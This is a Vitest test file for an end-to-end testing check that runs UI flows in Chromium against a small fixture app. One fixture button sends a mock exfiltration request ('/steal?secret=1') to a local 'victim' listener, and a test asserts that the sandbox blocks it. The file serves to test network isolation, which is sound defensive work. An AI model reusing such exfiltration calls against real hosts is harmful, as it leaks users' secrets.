import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Check } from '@buildwright/core';
import { templateProjects } from '../template-projects.test-support.js';
import { testingChecks } from './testing-checks.js';

// The e2e check on a hand-built dist/ (no build step) in a local sandbox: the real preview
// server, real Chromium, and a listener on this machine the page tries to reach.
const projects = templateProjects();
const stolen: string[] = [];
let victim = '';
const victimServer = createServer((request, response) => {
  stolen.push(`${request.method} ${request.url}`);
  response.writeHead(200, { 'access-control-allow-origin': '*' }).end('stolen');
});
beforeAll(async () => {
  await new Promise<void>((resolve) => victimServer.listen(0, '127.0.0.1', resolve));
  victim = `http://127.0.0.1:${(victimServer.address() as AddressInfo).port}`;
});
afterAll(async () => {
  victimServer.close();
  await projects.cleanup();
});

const [flowsCheck, e2eCheck] = testingChecks({ stepTimeoutMs: 1_500 }) as [Check, Check];
const flowPath = 'tests/e2e/app.flow.json';
const flows = (tests: unknown[]) => JSON.stringify({ format: 'buildwright.e2e/v1', tests });

/** A small app: a list with two "Remove" buttons, a form, a hash route, localStorage, a throw and a request to another origin (sent 100 ms after its click, once the test's steps are over). */
const app = () => ({
  'dist/index.html': '<!doctype html><html><head><title>t</title></head><body><div id="root"></div><script src="/app.js"></script></body></html>',
  'dist/app.js': `
const root = document.getElementById('root');
root.innerHTML = '<h1>Items</h1><ul><li>one <button>Remove</button></li><li>two <button>Remove</button></li></ul>' +
  '<label for="name">Name</label><input id="name"><p id="greeting" data-testid="greeting"></p>' +
  '<a href="#/about">About</a><button id="boom">Boom</button><button id="leak">Leak</button><p id="stored"></p>';
document.getElementById('name').addEventListener('keydown', (event) => {
  if (event.key === 'Enter') document.getElementById('greeting').textContent = 'Hello ' + event.target.value;
});
document.querySelectorAll('li button').forEach((button) => button.addEventListener('click', () => button.parentElement.remove()));
document.getElementById('boom').addEventListener('click', () => setTimeout(() => { throw new Error('boom on click'); }));
document.getElementById('leak').addEventListener('click', () => setTimeout(() => fetch(${JSON.stringify('VICTIM')} + '/steal?secret=1').catch(() => {}), 100));
document.getElementById('stored').textContent = localStorage.getItem('seen') ? 'seen before' : 'first visit';
localStorage.setItem('seen', '1');
`,
});

async function open(tests: unknown[] | null) {
  const files: Record<string, string | null> = { ...app(), [flowPath]: tests === null ? null : flows(tests) };
  files['dist/app.js'] = files['dist/app.js']!.replace('"VICTIM"', JSON.stringify(victim));
  return projects.open(files);
}

describe('testingChecks', () => {
  it('default: every step kind runs against the served build; each test gets a fresh context (no localStorage from the one before)', async () => {
    const tests = [
      {
        name: 'greets and removes',
        steps: [
          { expect: { text: 'first visit' } },
          { fill: { label: 'Name' }, value: 'Ann' },
          { press: 'Enter', on: { label: 'Name' } },
          { expect: { testId: 'greeting' }, hasText: 'Hello Ann' },
          { click: { role: 'button', name: 'Remove', nth: 1 } },
          { expect: { role: 'listitem' }, count: 1, hasText: 'one' },
          { click: { role: 'link', name: 'About' } },
          { expectUrl: '/#/about' },
          { goto: '/' },
          { expect: { text: 'seen before' } },
        ],
      },
      { name: 'starts clean', steps: [{ expect: { text: 'first visit' }, visible: true }] },
    ];
    const { context, events } = await open(tests);
    expect(await flowsCheck.run(context)).toEqual({ status: 'passed' });
    expect(await e2eCheck.run(context)).toEqual({ status: 'passed' });
    expect(events).toContainEqual({ type: 'notice.posted', level: 'info', message: 'E2E tests: 2 passed ("greets and removes", "starts clean")' });
  }, 120_000);

  it('behavior: failures name the test, the step and the assertion: an expectation that never holds, an ambiguous target, a page error', async () => {
    const tests = [
      { name: 'wrong count', criterion: 'both items stay', steps: [{ expect: { role: 'listitem' }, count: 3 }] },
      { name: 'ambiguous', steps: [{ click: { role: 'button', name: 'Remove' } }] },
      { name: 'throws', steps: [{ click: { role: 'button', name: 'Boom' } }, { expect: { text: 'never there' }, count: 0 }] },
    ];
    const { context } = await open(tests);
    const result = await e2eCheck.run(context);
    expect(result.status).toBe('failed');
    const report = result.status === 'failed' ? result.report : '';
    expect(report).toContain('E2E tests failed: 3 of 3 tests in tests/e2e/app.flow.json');
    expect(report).toContain(
      'tests/e2e/app.flow.json: test "wrong count" (criterion: both items stay) failed at step 1 {"expect":{"role":"listitem"},"count":3}: expected 3 matching elements, found 2 (after 1500 ms)',
    );
    expect(report).toMatch(/test "ambiguous" failed at step 1 \{"click":\{"role":"button","name":"Remove"\}\}: .*strict mode violation/);
    expect(report).toContain('test "throws" failed: the page threw during the test: Uncaught Error: boom on click');
    expect(result.status === 'failed' && result.issues.every((issue) => issue.file === flowPath)).toBe(true);
  }, 120_000);

  it('behavior: the page under test reaches only its own origin (a request elsewhere, even one sent just after the last step, is blocked and posted as a warning)', async () => {
    const { context, events } = await open([{ name: 'leaks', steps: [{ click: { role: 'button', name: 'Leak' } }, { expect: { text: 'Items' } }] }]);
    const result = await e2eCheck.run(context);
    expect(result).toEqual({ status: 'passed' });
    expect(stolen).toEqual([]);
    expect(events).toContainEqual(expect.objectContaining({ type: 'notice.posted', level: 'warn', message: expect.stringContaining(`blocked request to ${victim}/steal`) }));
  }, 120_000);

  it('error: a malformed file fails e2e-flows with each problem at its JSON path; a missing one fails it and skips e2e', async () => {
    const malformed = await open([{ name: 'bad', steps: [{ goto: 'http://127.0.0.1:5432/' }, { click: { css: '#x' } }] }]);
    const judged = await flowsCheck.run(malformed.context);
    expect(judged.status === 'failed' && judged.report.split('\n').slice(0, 3)).toEqual([
      'E2E flows invalid: tests/e2e/app.flow.json does not match buildwright.e2e/v1',
      'tests/e2e/app.flow.json: tests[0].steps[0].goto: must be a path of the app starting with "/" (e.g. "/" or "/todos"), not a URL',
      expect.stringMatching(/^tests\/e2e\/app\.flow\.json: tests\[0\]\.steps\[1\]/),
    ]);
    const missing = await open(null);
    expect(await flowsCheck.run(missing.context)).toMatchObject({ status: 'failed', report: expect.stringContaining('E2E flows invalid: tests/e2e/app.flow.json is missing') });
    expect(await e2eCheck.run(missing.context)).toEqual({ status: 'skipped', reason: 'no end-to-end tests: tests/e2e/app.flow.json is missing (the tests step writes it)' });
  }, 120_000);

  it('error: bad options are INVALID_INPUT when the checks are made', () => {
    expect(() => testingChecks({ path: '../outside.json' })).toThrow(/testingChecks path "\.\.\/outside\.json" must be a plain relative path/);
    expect(() => testingChecks({ stepTimeoutMs: 0 })).toThrow('testingChecks stepTimeoutMs must be a positive number of milliseconds, not 0.');
  });
});
